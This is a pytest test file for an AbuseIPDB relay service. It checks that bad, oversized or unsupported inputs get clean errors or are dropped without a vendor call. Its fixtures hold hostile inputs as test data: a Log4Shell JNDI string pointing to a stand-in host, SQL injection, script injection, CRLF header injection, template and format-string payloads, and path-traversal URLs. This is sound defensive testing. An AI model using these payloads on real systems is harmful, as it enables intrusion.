"""Bad relay input: each a clear `invalid argument` (with a documented maximum) or a silently
dropped observable type, never an HTTP 500, never a vendor call, never the engine's catch-all.

The documented limits (docs/spec-language.md, docs/reliability.md): at most MAX_OBSERVABLES
observables a request, values of at most MAX_VALUE_LENGTH characters, bodies of at most
MAX_BODY_BYTES bytes.
"""
from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from engine import load_spec
from engine.serving.observables import MAX_BODY_BYTES, MAX_OBSERVABLES, MAX_VALUE_LENGTH
from tests.support.misbehaving import abuseipdb_examples, MisbehavingVendor, RelayAgainst

ROOT = Path(__file__).resolve().parent.parent
SPEC = load_spec(ROOT / "vendors" / "abuseipdb.yaml")
ROUTES = ["deliberate/observables", "observe/observables"]


@pytest.fixture(scope="module")
def vendor():
    with MisbehavingVendor(abuseipdb_examples) as stand_in:
        yield stand_in


@pytest.fixture
def relay(vendor):
    vendor.requests.clear()
    return RelayAgainst({"abuseipdb": SPEC}, {"abuseipdb": vendor.origin})


def invalid(details: dict) -> dict:
    return {"errors": [{"code": "invalid argument", "type": "fatal",
                        "message": "Invalid JSON payload received. " + json.dumps(details)}]}


NOT_A_LIST = {"_schema": ["Invalid input type."]}
TOO_MANY = {"_schema": [f"Longer than maximum length {MAX_OBSERVABLES}."]}
TOO_LONG = [f"Longer than maximum length {MAX_VALUE_LENGTH}."]
TOO_LARGE = {"_schema": [f"The request body is larger than {MAX_BODY_BYTES} bytes."]}

BAD_BODIES = [
    ("text", b"ip 1.2.3.4", NOT_A_LIST),
    ("binary", bytes(range(256)), NOT_A_LIST),
    ("latin-1", '[{"type": "ip", "value": "café"}]'.encode("latin-1"), NOT_A_LIST),
    ("truncated-json", b'[{"type": "ip", "value": "1.2.3.4"', NOT_A_LIST),
    ("empty", b"", NOT_A_LIST),
    ("whitespace", b" \r\n\t ", NOT_A_LIST),
    ("null", b"null", NOT_A_LIST),
    ("number", b"42", NOT_A_LIST),
    ("string", b'"1.2.3.4"', NOT_A_LIST),
    ("object", b'{"type": "ip", "value": "1.2.3.4"}', NOT_A_LIST),
    ("nested-list", b'[[{"type": "ip", "value": "1.2.3.4"}]]', {"0": {"_schema": ["Invalid input type."]}}),
    ("null-item", b"[null]", {"0": {"_schema": ["Invalid input type."]}}),
    ("deep-nesting", b"[" * 100_000 + b"]" * 100_000, NOT_A_LIST),
    ("huge-number", b'[{"type": "ip", "value": 1e999999}]', {"0": {"value": ["Not a valid string."]}}),
    ("long-integer", b'[{"type": "ip", "value": ' + b"9" * 5000 + b"}]", NOT_A_LIST),
    ("nan", b'[{"type": "ip", "value": NaN}]', {"0": {"value": ["Not a valid string."]}}),
    ("value-object", b'[{"type": "ip", "value": {"$ne": null}}]', {"0": {"value": ["Not a valid string."]}}),
    ("value-list", b'[{"type": "ip", "value": ["1.2.3.4"]}]', {"0": {"value": ["Not a valid string."]}}),
    ("type-number", b'[{"type": 4, "value": "1.2.3.4"}]', {"0": {"type": ["Not a valid string."]}}),
    ("lone-surrogate-value", b'[{"type": "ip", "value": "\\ud800"}]', {"0": {"value": ["Not a valid string."]}}),
    ("lone-surrogate-type", b'[{"type": "i\\udfffp", "value": "1.2.3.4"}]', {"0": {"type": ["Not a valid string."]}}),
    ("extra-field", b'[{"type": "ip", "value": "1.2.3.4", "__proto__": {}}]', {"0": {"__proto__": ["Unknown field."]}}),
    ("blank-value", b'[{"type": "ip", "value": " \\t "}]', {"0": {"value": ["Field may not be blank."]}}),
    ("megabyte-value", json.dumps([{"type": "ip", "value": "1" * 1_000_000}]).encode(), {"0": {"value": TOO_LONG}}),
    ("megabyte-type", json.dumps([{"type": "x" * 1_000_000, "value": "1.2.3.4"}]).encode(), {"0": {"type": TOO_LONG}}),
    ("one-too-many", json.dumps([{"type": "ip", "value": "1.2.3.4"}] * (MAX_OBSERVABLES + 1)).encode(), TOO_MANY),
    ("thousands", json.dumps([{"type": "ip", "value": f"10.0.{i // 256}.{i % 256}"} for i in range(20_000)]).encode(),
     TOO_MANY),
    ("many-bad-items", json.dumps([{"value": 1}] * 3).encode(),
     {str(i): {"type": ["Missing data for required field."], "value": ["Not a valid string."]} for i in range(3)}),
    ("over-10-MiB", b"[" + b'{"type": "domain", "value": "x"},' * 400_000 + b"{}]", TOO_LARGE),
]


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize(("raw", "details"), [row[1:] for row in BAD_BODIES], ids=[row[0] for row in BAD_BODIES])
def test_bad_input_is_a_clear_invalid_argument_without_a_vendor_call(relay, vendor, route, raw, details, caplog):
    assert relay.ask("abuseipdb", route, raw=raw) == invalid(details)
    assert vendor.requests == []
    assert not [record for record in caplog.records if record.exc_info]  # never the engine's catch-all


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                          "multipart/form-data; boundary=x", "application/json; charset=utf-16"])
def test_the_body_is_read_as_json_whatever_the_content_type_says(relay, vendor, content_type):
    body = json.dumps([{"type": "ip", "value": "192.0.2.45"}]).encode()
    answer = relay.ask("abuseipdb", "deliberate/observables", raw=body, headers={"Content-Type": content_type})
    assert answer["data"]["verdicts"]["count"] == 1


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-32"])
def test_json_in_any_unicode_encoding_is_read(relay, vendor, encoding):
    body = json.dumps([{"type": "ip", "value": "192.0.2.45"}]).encode(encoding)
    assert relay.ask("abuseipdb", "deliberate/observables", raw=body)["data"]["verdicts"]["count"] == 1


def test_a_streamed_body_over_the_maximum_is_refused_as_too_large(relay, vendor):
    """Without Content-Length (chunked), the server cuts the stream: the relay still says why."""
    big = b"[" + b'{"type": "domain", "value": "x"},' * 400_000 + b"{}]"
    response = relay.client.post("/abuseipdb/observe/observables", input_stream=io.BytesIO(big),
                                 headers={"Transfer-Encoding": "chunked",
                                          "Authorization": "Bearer " + relay.token("abuseipdb")},
                                 environ_overrides={"wsgi.input_terminated": True}, base_url="http://localhost")
    assert response.status_code == 200
    assert response.get_json() == invalid(TOO_LARGE)
    assert vendor.requests == []


def test_a_body_just_under_the_maximum_is_read(relay, vendor):
    observable = json.dumps({"type": "domain", "value": "x" * (MAX_VALUE_LENGTH - 100)}).encode()
    count = MAX_BODY_BYTES // (len(observable) + 1) - 1
    body = b"[" + b",".join([observable] * min(count, MAX_OBSERVABLES)) + b"]"
    assert len(body) <= MAX_BODY_BYTES
    assert relay.ask("abuseipdb", "observe/observables", raw=body) == {"data": {}}  # domains: not AbuseIPDB's


def test_a_value_of_the_maximum_length_is_looked_up(relay, vendor):
    value = "1" * MAX_VALUE_LENGTH
    answer = relay.ask("abuseipdb", "deliberate/observables", [{"type": "ip", "value": value}])
    assert answer["data"]["verdicts"]["docs"][0]["observable"]["value"] == value
    assert vendor.requests[0].param("ipAddress") == value


def test_the_maximum_number_of_observables_is_looked_up(relay, vendor):
    observables = [{"type": "ip", "value": f"10.0.{i // 256}.{i % 256}"} for i in range(MAX_OBSERVABLES)]
    answer = relay.ask("abuseipdb", "deliberate/observables", observables)
    assert "errors" not in answer
    assert answer["data"]["verdicts"]["count"] == MAX_OBSERVABLES
    assert len(vendor.requests) == MAX_OBSERVABLES


@pytest.mark.parametrize("route", ROUTES)
def test_thousands_of_unsupported_observables_are_dropped_silently(relay, vendor, route):
    observables = [{"type": kind, "value": f"x{i}"} for i in range(MAX_OBSERVABLES)
                   for kind in ["domain"]] + [{"type": "no-such-type", "value": "x"}]
    assert relay.ask("abuseipdb", route, observables[:MAX_OBSERVABLES]) == {"data": {}}
    assert vendor.requests == []


@pytest.mark.parametrize("observable_type", ["domain", "sha256", "no-such-type", "IP ", "íp", "ip\x00", "__proto__"])
def test_unknown_types_are_dropped_and_the_rest_is_looked_up(relay, vendor, observable_type):
    observables = [{"type": observable_type, "value": "1.2.3.4"}, {"type": "IP", "value": "192.0.2.45"}]
    answer = relay.ask("abuseipdb", "deliberate/observables", observables)
    assert [v["observable"] for v in answer["data"]["verdicts"]["docs"]] == [{"type": "ip", "value": "192.0.2.45"}]
    assert [request.param("ipAddress") for request in vendor.requests] == ["192.0.2.45"]


def test_unsupported_types_are_answered_without_reading_the_token(relay, vendor):
    """As Cisco's relays do: nothing to look up, so no token is needed to say so."""
    answer = relay.ask("abuseipdb", "observe/observables", [{"type": "domain", "value": "x.test"}], token=None)
    assert answer == {"data": {}}


@pytest.mark.parametrize("value", ["1.2.3.4\x00", "\u202e4.3.2.1", "1.2.3.4\r\nX-Injected: 1", "𝟏.𝟐.𝟑.𝟒",
                                   "' OR 1=1 --", "${jndi:ldap://evil.test/a}", "{{ credentials.key }}",
                                   "<script>alert(1)</script>", "%s%s%s%n"])
def test_hostile_but_valid_values_are_looked_up_as_plain_text(relay, vendor, value):
    answer = relay.ask("abuseipdb", "deliberate/observables", [{"type": "ip", "value": value}])
    assert answer["data"]["verdicts"]["docs"][0]["observable"]["value"] == value
    (request,) = vendor.requests
    assert request.param("ipAddress") == value  # sent as data, never interpreted (no template, no header)
    assert "x-injected" not in request.headers


@pytest.mark.parametrize(("authorization", "reason"), [
    ("Bearer " + "a" * 1_000_000, "Wrong JWT structure"),
    ("Bearer " + "é" * 100, "Wrong JWT structure"),
    ("Bearer a.b.c.d.e", "Wrong JWT structure"),
    ("Bearer ....", "Wrong JWT structure"),
    ("Bearer\x00 a.b.c", "Wrong authorization type"),
])
def test_hostile_authorization_headers_are_authorization_errors(relay, vendor, authorization, reason):
    answer = relay.ask("abuseipdb", "deliberate/observables", [{"type": "ip", "value": "192.0.2.45"}], token=None,
                       headers={"Authorization": authorization})
    assert answer == {"errors": [{"code": "authorization error", "message": f"Authorization failed: {reason}",
                                  "type": "fatal"}]}
    assert vendor.requests == []


@pytest.mark.parametrize(("method", "path", "status"), [
    ("GET", "/abuseipdb/observe/observables", 405),
    ("PUT", "/abuseipdb/health", 405),
    ("DELETE", "/abuseipdb/version", 405),
    ("POST", "/abuseipdb/watchdog", 405),
    ("POST", "/abuseipdb/../abuseipdb/health", 404),
    ("POST", "/%00/health", 404),
    ("POST", "/abuseipdb/observe/observables/../../health", 404),
    ("POST", "/" + "a" * 10_000 + "/health", 404),
    ("POST", "/no-such-vendor/observe/observables", 404),
])
def test_undeclared_routes_and_methods_answer_in_the_relay_shape(relay, vendor, method, path, status):
    response = relay.client.open(path, method=method, json=[{"type": "ip", "value": "1.2.3.4"}],
                                 base_url="http://localhost")
    assert response.status_code == status
    body = response.get_json()
    assert body["code"] == status and body["reason"].startswith("werkzeug.exceptions.") and body["message"]
    assert vendor.requests == []
